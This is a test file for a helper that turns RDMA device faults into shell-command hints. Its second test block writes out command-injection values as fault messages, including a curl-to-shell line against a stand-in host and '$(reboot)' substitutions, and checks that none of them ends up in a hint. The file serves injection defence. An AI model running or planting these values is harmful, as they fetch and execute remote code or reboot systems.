import { expect, it } from 'vitest'
import { explainRdmaFault } from './explain-fault.js'

it.each([
  ['RDMA_NOT_BUILT', 'this build is without RDMA', /libibverbs-dev/],
  ['RDMA_NO_LIBRARY', 'libibverbs was not found', /libibverbs1 ibverbs-providers/],
  ['RDMA_NO_UVERBS', 'ib_uverbs is not loaded', /^sudo modprobe ib_uverbs$/],
  [
    'RDMA_NODE_MISSING',
    'x, but /dev/infiniband/uverbs3 is not here',
    /--device=\/dev\/infiniband\/uverbs3$/,
  ],
  [
    'RDMA_NODE_ACCESS',
    'no permission on /dev/infiniband/uverbs0, by',
    /chmod a\+rw \/dev\/infiniband\/uverbs0,/,
  ],
  ['RDMA_NO_PROVIDER', 'no provider for rxe0', /ibverbs-providers/],
  ['RDMA_PORT_DOWN', 'mlx5_0 port 1 is down (eth1 is down)', /^sudo ip link set eth1 up$/],
  ['RDMA_PORT_DOWN', 'mlx5_0 port 1 is down (eth1 has no carrier)', /ethtool eth1$/],
  ['RDMA_PORT_DOWN', 'mlx4_0 port 1 is init (no subnet manager has configured it)', /opensm/],
  [
    'RDMA_NO_GID',
    'no RoCE v2 GID for source address 10.0.0.5 on eth1; there is x',
    /^sudo ip address add 10\.0\.0\.5\/24 dev eth1/,
  ],
  ['RDMA_NO_GID', 'no RoCE v2 GID for source address 127.0.0.1 on eth1; there is x', /dev eth1/],
  ['RDMA_NO_GID', 'no GID index 7 on eth1; there is x', /--gid-index/],
  ['RDMA_MEMLOCK', 'the locked-memory limit is 64 KiB', /^ulimit -l unlimited/],
])('%s: %s', (code, message, hint) => {
  const explained = explainRdmaFault({ code, op: '', errno: 0, message })
  expect(explained?.exitCode).toBe(3)
  expect(explained?.hint).toMatch(hint)
})

it.each([
  ['RDMA_PORT_DOWN', '(eth0;curl$IFS.x.example/a|sh; is down)'],
  ['RDMA_PORT_DOWN', '($(reboot) has no carrier)'],
  ['RDMA_PORT_DOWN', '(--help is down)'],
  ['RDMA_PORT_DOWN', '(a-name-of-more-than-15 is down)'],
  ['RDMA_NO_GID', 'no RoCE v2 GID for source address 10.0.0.5 on eth1|sh; there is x'],
  ['RDMA_NO_GID', 'no RoCE v2 GID for source address `reboot` on eth1; there is x'],
  ['RDMA_NO_GID', 'no RoCE v2 GID for source address fe80::1%$(reboot) on $(reboot); there is x'],
  ['RDMA_NO_GID', 'no RoCE v2 GID for source address 10.0.0.5.6 on eth1; there is x'],
])('makes no command of what is no device and no address: %s, %s', (code, message) => {
  const hint = explainRdmaFault({ code, op: '', errno: 0, message })?.hint
  expect(hint).toMatch(/^(rdma link show|choose one of these with --device and --gid-index)$/)
})

it('knows only its own faults', () => {
  expect(explainRdmaFault({ code: 'SOCKET', op: '', errno: 1, message: '' })).toBeNull()
})
